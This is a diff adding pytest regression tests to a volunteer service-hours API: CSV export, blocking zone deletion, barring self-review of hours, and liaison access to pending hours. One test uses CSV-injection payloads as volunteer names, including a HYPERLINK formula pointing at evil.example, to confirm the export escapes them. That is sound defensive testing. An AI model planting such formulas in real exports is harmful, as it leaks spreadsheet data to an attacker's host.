@@ -1,6 +1,8 @@
 """The liaison's review queue: the hours waiting for a decision in their zones, with the check-in and check-out."""
 from __future__ import annotations
 
+import csv
+import io
 from datetime import datetime, time, timedelta
 from urllib.parse import urlencode
 from zoneinfo import ZoneInfo
@@ -9,7 +11,7 @@ import pytest
 from sqlalchemy import select
 from sqlalchemy.orm import Session
 
-from gridsvc.models import CheckEvent, ServiceHours, Shift
+from gridsvc.models import CheckEvent, ServiceHours, Shift, Signup
 from gridsvc.services import checks
 from gridsvc.services.shifts import create_shift
 from tests.api.volunteer_helpers import make_shift, north_of, volunteer_id, zone_center, zone_of
@@ -215,3 +217,85 @@ def _two_pending_entries(engine, clock) -> tuple[list[int], int]:
             ids.append(hours.id)
         session.commit()
         return sorted(ids), shift.id
+
+
+# ------------------------------------------------------------------ found in review (each failed before its fix)
+
+
+def _hours_in(session, username: str, zone_code: str, day: int, *, status: str) -> ServiceHours:
+    """An hours entry of ``username`` for a 07:30-09:00 shift in ``zone_code`` on 2 + ``day`` March 2026."""
+    starts = datetime(2026, 3, 2 + day, 7, 30, tzinfo=SHANGHAI)
+    ends = starts + timedelta(hours=1.5)
+    shift = create_shift(session, zone_id=zone_of(session, zone_code).id, title="北门交通疏导", activity="traffic_guidance",
+                         capacity=3, starts_at=starts, ends_at=ends)
+    vid = volunteer_id(session, username)
+    check_in = CheckEvent(shift_id=shift.id, volunteer_id=vid, kind="check_in", effective_at=starts,
+                          position="SRID=4326;POINT(121.78 29.87)", input_lon=121.78, input_lat=29.87, input_crs="wgs84",
+                          inside=True, distance_m=0, accepted=True, status_code=201, response={})
+    session.add(check_in)
+    session.flush()
+    entry = ServiceHours(volunteer_id=vid, shift_id=shift.id, check_in_id=check_in.id, started_at=starts, ended_at=ends,
+                         hours=1.5, status=status)
+    session.add(entry)
+    session.flush()
+    return entry
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+86-1+1", "-2+3", "@SUM(1,1)"])
+def test_the_hours_csv_writes_a_formula_looking_name_as_text(login, session, name):
+    """A volunteer chooses their own real_name; a liaison opens the CSV in Excel, where a cell starting with
+    = + - @ would run as a formula (CSV injection). It is written as text: a leading apostrophe."""
+    vid = volunteer_id(session, "volunteer-001")
+    assert login("volunteer-001").patch(f"/api/v1/volunteers/{vid}", json={"real_name": name}).status_code == 200
+    _hours_in(session, "volunteer-001", "G01", 0, status="approved")
+    answer = login("liaison-g01").get(f"/api/v1/volunteers/{vid}/hours.csv")
+    assert answer.status_code == 200 and answer.headers["Cache-Control"] == "private, no-store"
+    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff"))))
+    assert rows[1][0] == "'" + name and rows[1][6] == "1.50"
+
+
+def test_a_zone_with_hours_worked_in_it_cannot_be_deleted(login, session):
+    """Deleting a zone took its shifts, and with them the volunteers' approved and declined hours, by cascade."""
+    vid = volunteer_id(session, "volunteer-001")
+    _hours_in(session, "volunteer-001", "G09", 0, status="approved")
+    _hours_in(session, "volunteer-001", "G09", 1, status="declined")
+    problem = assert_problem(login("planner").delete(f"/api/v1/zones/{zone_of(session, 'G09').id}"), 409)
+    assert problem["shifts"] >= 2 and problem["service_requests"] >= 0
+    report = login("volunteer-001").get(f"/api/v1/volunteers/{vid}/hours?from=2026-03-01&to=2026-03-31").get_json()
+    assert (report["approved"], report["declined"], len(report["entries"])) == (1.5, 1.5, 2)
+
+
+def test_nobody_reviews_their_own_hours(login, session):
+    """A liaison may volunteer too; "verified" hours are verified by someone else."""
+    liaison = login("liaison-g01")
+    assert liaison.post("/api/v1/volunteers", json={"real_name": "网格员", "phone": "13900001111"}).status_code == 201
+    entry = _hours_in(session, "liaison-g01", "G01", 0, status="pending")
+    assert_problem(liaison.post(f"/api/v1/hours/{entry.id}/approve", json={}), 403)
+    [result] = liaison.post("/api/v1/hours/review", json={"ids": [entry.id], "action": "approve"}).get_json()["results"]
+    assert result["status"] == 403
+    session.expire_all()
+    assert session.get(ServiceHours, entry.id).status == "pending"
+    assert login("admin").post(f"/api/v1/hours/{entry.id}/approve", json={}).get_json()["status"] == "approved"
+
+
+def test_hours_waiting_in_a_zone_keep_the_volunteer_visible_to_its_liaison(admin, login, session, clock):
+    """volunteer-001 (home G01) works a G02 shift and checks out 5 km away: pending, in G02's queue. Withdrawing
+    that sign-up is refused now, and even with it gone (as it could be before) G02's liaison, who must decide,
+    may read the volunteer's hours: access follows the zones with the volunteer's hours too."""
+    g02 = zone_of(session, "G02").id
+    at_g02 = zone_center(admin, g02)
+    shift = make_shift(admin, zone_id=g02, starts_at=clock() + timedelta(minutes=10), hours=2)
+    me, vid = login("volunteer-001"), volunteer_id(session, "volunteer-001")
+    assert me.post(f"/api/v1/shifts/{shift['id']}/signups", json={}).status_code == 201
+    clock.advance(minutes=10)
+    check(me, shift["id"], "check-in", at_g02, "g02-in")
+    clock.advance(minutes=30)
+    check(me, shift["id"], "check-out", north_of(at_g02, 5000), "g02-out")
+    withdrawn = assert_problem(me.delete(f"/api/v1/shifts/{shift['id']}/signups/{vid}"), 409)
+    assert withdrawn["reason"] == "checked_in"
+    session.execute(Signup.__table__.update().where(Signup.shift_id == shift["id"]).values(status="cancelled"))
+    session.flush()
+    liaison = login("liaison-g02")
+    assert [e["volunteer_id"] for e in queue(liaison)["items"]] == [vid]
+    answer = liaison.get(f"/api/v1/volunteers/{vid}/hours")
+    assert answer.status_code == 200 and answer.get_json()["pending"] == 0.5
